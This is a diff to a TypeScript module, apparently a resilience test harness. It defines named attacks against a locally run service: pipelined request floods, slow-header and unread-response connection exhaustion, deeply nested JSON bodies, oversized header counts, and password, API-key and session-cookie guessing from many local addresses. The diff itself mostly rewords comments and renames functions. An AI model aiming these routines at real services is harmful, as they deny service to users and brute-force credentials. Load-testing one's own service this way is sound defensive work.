@@ -2,17 +2,17 @@ import { randomBytes } from 'node:crypto'
 import { connect, type Socket } from 'node:net'
 import { setTimeout as sleep } from 'node:timers/promises'
 
-/** The service that is attacked. */
+/** The attacked service. */
 export interface Target {
   port: number
-  /** Of the metrics, where they have a port of their own. */
+  /** The value of `METRICS_PORT`, if set. */
   metricsPort?: number
 }
 
-/** Begins, and goes on until the process is killed. Resolves once the attack is under way. */
+/** Starts the attack, which continues until the process is killed. Resolves once it has started. */
 export type Attack = (target: Target) => Promise<void>
 
-/** Before it asks, or connects, again: the harm is to come from each request, not from their number. */
+/** The pauses before the next request or connection: the harm should come from each request, not from their number. */
 const PAUSE_MS = 100
 const RECONNECT_MS = 500
 const DRIP_MS = 1_000
@@ -20,7 +20,7 @@ const JSON_TYPE = 'Content-Type: application/json\r\n'
 const SIGN_IN = `POST /admin/v1/session HTTP/1.1\r\nHost: x\r\n${JSON_TYPE}`
 const MIB = 1_048_576
 
-/** Every address that takes a body, with a token that nobody has where one is asked for. */
+/** Calls that accept a body. They are sent with an unknown token. */
 const BODY_TARGETS = [
   'POST /admin/v1/session',
   'POST /v1/messages/text',
@@ -30,12 +30,12 @@ const BODY_TARGETS = [
   'POST /nope',
 ]
 
-/** One connection after another: as soon as one is closed, the next is opened. Nothing that is answered is read. */
+/** Keeps one connection open: when it is closed, opens the next one. Reads no response. */
 function keepOpen({ port }: { port: number }, begin: (socket: Socket) => void, localAddress?: string): void {
   const socket = connect({ port, host: '127.0.0.1', ...(localAddress !== undefined && { localAddress }) })
   socket.on('error', () => undefined)
   socket.on('connect', () => begin(socket.pause()))
-  // A paused socket does not see the end of the other side: it is noticed by writing.
+  // A paused socket does not notice that the other side has closed it until it writes.
   socket.on('close', () => setTimeout(keepOpen, RECONNECT_MS, { port }, begin, localAddress))
 }
 
@@ -43,13 +43,13 @@ function times(count: number, act: (index: number) => void): void {
   for (let index = 0; index < count; index += 1) act(index)
 }
 
-/** Requests one behind the other, none of whose answers is read. */
+/** Pipelined requests, at least `bytes` long. */
 function pipelined(requests: readonly string[], bytes: number): Buffer {
   const block = requests.map(line => `${line} HTTP/1.1\r\nHost:x\r\n\r\n`).join('')
   return Buffer.from(block.repeat(Math.ceil(bytes / block.length)))
 }
 
-function writeForEver(socket: Socket, bytes: Buffer): void {
+function writeForever(socket: Socket, bytes: Buffer): void {
   const write = () => {
     while (!socket.destroyed && socket.write(bytes)) if (socket.writableLength > 0) return
   }
@@ -62,12 +62,12 @@ function drip(socket: Socket, byte: string): void {
   socket.once('close', () => clearInterval(timer))
 }
 
-/** Asks again and again on one connection, and reads what is answered. */
-function askForEver(target: Target, request: () => string, localAddress?: string): void {
+/** Repeats a request on one connection and reads the responses. */
+function requestForever(target: Target, request: () => string, localAddress?: string): void {
   keepOpen(
     target,
     socket => {
-      // An answer may come in pieces.
+      // A response may arrive in several chunks.
       let isAnswered = false
       socket.on('data', () => {
         if (isAnswered) return
@@ -89,7 +89,7 @@ function withBody(head: string, body: string): string {
 }
 
 export const ATTACKS = {
-  /** One connection, one read of the server full of requests. */
+  /** One connection that fills one read of the server with requests. */
   'pipelined-pages': async target => {
     keepOpen(target, socket => {
       socket.write(pipelined(['GET /docs/'], 65_536))
@@ -98,7 +98,7 @@ export const ATTACKS = {
   },
   'pipelined-documents': async target => {
     const bytes = pipelined(['GET /openapi.json'], 1_700 * 39)
-    times(4, () => keepOpen(target, socket => writeForEver(socket, bytes)))
+    times(4, () => keepOpen(target, socket => writeForever(socket, bytes)))
   },
   'pipelined-everything': async target => {
     const lines = [
@@ -113,9 +113,9 @@ export const ATTACKS = {
       'DELETE /admin/v1/instances',
       'GET /readyz',
     ]
-    times(10, () => keepOpen(target, socket => writeForEver(socket, pipelined(lines, 62_000))))
+    times(10, () => keepOpen(target, socket => writeForever(socket, pipelined(lines, 62_000))))
   },
-  /** The largest file that is served, asked for by many who do not read it. */
+  /** Many connections that request the largest files and do not read them. */
   'unread-documents': async target => {
     const bytes = pipelined(['GET /docs/js/scalar.js', 'GET /openapi.json', 'GET /docs/'], 1)
     times(500, () => keepOpen(target, socket => drip(socket, bytes.toString())))
@@ -150,7 +150,7 @@ export const ATTACKS = {
   'nested-bodies': async target => {
     const deep = (MIB >> 1) - 100
     const body = `{"key":${'['.repeat(deep)}${']'.repeat(deep)}}`
-    times(4, () => askForEver(target, () => withBody(SIGN_IN, body)))
+    times(4, () => requestForever(target, () => withBody(SIGN_IN, body)))
   },
   'slow-headers': async target => {
     times(2_200, () =>
@@ -165,31 +165,31 @@ export const ATTACKS = {
   },
   'many-headers': async target => {
     const fields = Array.from({ length: 1_900 }, (_, n) => `a${n}:\r\n`).join('')
-    times(20, () => askForEver(target, () => `GET /v1/instance HTTP/1.1\r\nHost: x\r\n${fields}\r\n`))
+    times(20, () => requestForever(target, () => `GET /v1/instance HTTP/1.1\r\nHost: x\r\n${fields}\r\n`))
   },
-  /** Wrong passwords from many addresses, ten of each, all at once and then as often as they may. */
+  /** Wrong passwords from 24 addresses, ten connections each, as fast as the service answers. */
   'guessed-passwords': async target => {
     times(240, index =>
-      askForEver(target, () => withBody(SIGN_IN, `{"key":"guess ${index}"}`), `127.0.1.${1 + (index % 24)}`),
+      requestForever(target, () => withBody(SIGN_IN, `{"key":"guess ${index}"}`), `127.0.1.${1 + (index % 24)}`),
     )
   },
   'guessed-keys': async target => {
     const authorization = () => `Authorization: Bearer pmb_${randomBytes(32).toString('base64url')}\r\n`
     const text = '{"to":"5511987654321","text":"x"}'
     times(20, () =>
-      askForEver(target, () =>
+      requestForever(target, () =>
         withBody(`POST /v1/messages/text HTTP/1.1\r\nHost: x\r\n${authorization()}${JSON_TYPE}`, text),
       ),
     )
     times(20, index =>
-      askForEver(
+      requestForever(
         target,
         () => `GET /admin/v1/instances HTTP/1.1\r\nHost: x\r\n${authorization()}\r\n`,
         `127.0.2.${1 + index}`,
       ),
     )
     times(20, () =>
-      askForEver(
+      requestForever(
         target,
         () =>
           `GET /admin/v1/instances HTTP/1.1\r\nHost: x\r\nCookie: pombal_session=${randomBytes(33).toString('base64url').slice(0, 43)}\r\n\r\n`,
@@ -203,10 +203,10 @@ export const ATTACKS = {
 
 export type AttackName = keyof typeof ATTACKS
 
-/** Connections are made in the order asked for; after this time they are there, or the service refuses them. */
-const UNDER_WAY_MS = 1_500
+/** After this time all connections are open, or the service refuses them. */
+const STARTED_AFTER_MS = 1_500
 
-export async function begin(name: AttackName, target: Target): Promise<void> {
+export async function startAttack(name: AttackName, target: Target): Promise<void> {
   await ATTACKS[name](target)
-  await sleep(UNDER_WAY_MS)
+  await sleep(STARTED_AFTER_MS)
 }
